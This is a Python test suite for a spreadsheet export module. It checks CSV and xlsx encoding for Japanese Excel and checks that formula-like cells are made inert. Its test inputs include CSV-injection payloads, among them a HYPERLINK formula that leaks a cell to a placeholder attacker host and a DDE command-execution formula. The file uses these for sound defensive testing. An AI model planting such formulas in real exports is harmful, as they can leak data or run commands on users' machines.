"""``core.spreadsheets``: CSV and .xlsx that open in Japanese Excel (encoding) and cannot
inject formulas, read back with ``csv`` and ``openpyxl`` (an independent reader)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from withrefugees.core import spreadsheets
from withrefugees.core.spreadsheets import csv_bytes, spreadsheet_response, xlsx_bytes

JAPANESE = ["髙橋", "山﨑", "①②③", "😀", "👨‍👩‍👧", "府中市（東京都）"]
#: Texts a spreadsheet program would read as formulas (OWASP CSV Injection, full-width too).
INJECTIONS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1",
              '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "＝1+1", "＋1", "－1",
              "＠SUM(1)", "=cmd|' /C calc'!A0"]
HEADER = ["text", "number"]


def rows():
    return ([[text, n] for n, text in enumerate(JAPANESE)]
            + [[text, -1] for text in INJECTIONS]
            + [["plain", Decimal("12.50")], ["float", 35.6689], ["none", None],
               ["bool", True], ["date", datetime.date(2027, 6, 20)],
               ["datetime", datetime.datetime(2027, 6, 20, 18, 30)],
               ["aware", datetime.datetime(2027, 6, 20, 18, 30,
                                           tzinfo=datetime.timezone(datetime.timedelta(hours=9)))],
               ["line\r\nbreaks\rhere", 0], ["nan", float("nan")]])


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8, not Shift_JIS
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def test_csv_is_utf8_with_bom_and_crlf():
    data = csv_bytes(HEADER, rows())
    assert data.startswith("\ufefftext,number\r\n".encode())
    # Every record ends with CRLF; a line break inside a cell is LF (quoted).
    assert b'"line\nbreaks\nhere",0\r\n' in data
    table = read_csv(data)
    assert table[0] == HEADER
    for n, text in enumerate(JAPANESE, start=1):
        assert table[n] == [text, str(n - 1)]


@pytest.mark.parametrize("text", INJECTIONS)
def test_csv_makes_formulas_inert(text):
    table = read_csv(csv_bytes(HEADER, [[text, -1]]))
    cell, number = table[1]
    assert cell.startswith("'")
    assert cell[1:].replace("\\|", "|") == text.replace("\r", "\n")
    assert number == "-1"  # a real number stays a plain number


def test_csv_keeps_numbers_dates_and_plain_text():
    table = dict(read_csv(csv_bytes(HEADER, rows()))[1:])
    assert table["plain"] == "12.50"
    assert table["float"] == "35.6689"
    assert table["none"] == ""
    assert table["bool"] == "TRUE"
    assert table["date"] == "2027-06-20"
    assert table["datetime"] == "2027-06-20 18:30:00"
    assert table["aware"] == "2027-06-20 18:30:00"  # its own wall clock
    assert table["nan"] == ""  # NaN: empty
    # Text inside a cell that only contains the characters is left alone.
    assert read_csv(csv_bytes(["a"], [["a=1+1, b-1 @x"]]))[1] == ["a=1+1, b-1 @x"]


def test_csv_field_separators_cannot_start_a_new_cell():
    table = read_csv(csv_bytes(["a", "b"], [['x",=1+1', "y\n=2"]]))
    assert table[1] == ['x",=1+1', "y\n=2"]


def read_xlsx(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_text_stays_text_and_numbers_stay_numbers():
    sheet = read_xlsx(xlsx_bytes(HEADER, rows(), sheet_name="イベント[1]:*?/\\"))
    assert sheet.title == "イベント1"
    assert [c.value for c in sheet[1]] == HEADER
    assert sheet.freeze_panes == "A2"
    read = list(sheet.iter_rows(min_row=2))
    assert len(read) == len(rows())
    for (text_cell, value_cell), (text, value) in zip(read, rows(), strict=True):
        assert text_cell.data_type in ("s", "n")  # never "f" (formula)
        if text in INJECTIONS:
            assert text_cell.data_type == "s"
            assert text_cell.value == text.replace("\r", "\n")  # as written, no apostrophe
            assert text_cell.quotePrefix  # Excel keeps it text even when edited
            assert value_cell.value == -1 and value_cell.data_type == "n"
        elif text:
            assert not text_cell.quotePrefix
        if text in JAPANESE:
            assert text_cell.value == text
            assert value_cell.data_type == "n" and value_cell.value == value
    values = {text: cell for (_text_cell, cell), (text, _v) in zip(read, rows(), strict=True)}
    assert values["plain"].value == 12.5
    assert values["float"].value == 35.6689
    assert values["none"].value is None
    assert values["bool"].value is True
    assert values["date"].value == datetime.datetime(2027, 6, 20)  # a date cell
    assert values["date"].is_date and values["datetime"].is_date
    assert values["datetime"].value == datetime.datetime(2027, 6, 20, 18, 30)
    assert values["aware"].value == datetime.datetime(2027, 6, 20, 18, 30)
    assert values["line\r\nbreaks\rhere"].value == 0
    assert read[-2][0].value == "line\nbreaks\nhere"
    assert read[-1][1].value is None  # NaN: empty


def test_xlsx_never_turns_strings_into_formulas_urls_or_numbers():
    sheet = read_xlsx(xlsx_bytes(["a"], [["https://example.org/"], ["0123"], ["1e5"]]))
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [
        ("https://example.org/", "s"), ("0123", "s"), ("1e5", "s")]
    assert all(c.hyperlink is None for c in cells)


def test_formula_rule():
    for text in INJECTIONS:
        assert spreadsheets.is_formula_like(text)
    for text in ["", "1", "a=1", " =1", "'=1", "髙", "（=1）"]:
        assert not spreadsheets.is_formula_like(text)
    assert spreadsheets.defuse("=1") == "'=1"
    assert spreadsheets.defuse("ok") == "ok"


@pytest.mark.parametrize(("fmt", "media_type"), [
    ("csv", "text/csv; charset=utf-8"),
    ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
])
def test_response(fmt, media_type):
    response = spreadsheet_response(HEADER, rows(), fmt=fmt, filename="events-2027-06-20")
    assert response["Content-Type"] == media_type
    assert response["Content-Disposition"] == f'attachment; filename="events-2027-06-20.{fmt}"'
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_response_refuses_other_formats():
    with pytest.raises(ValueError):
        spreadsheet_response(HEADER, [], fmt="xls", filename="x")
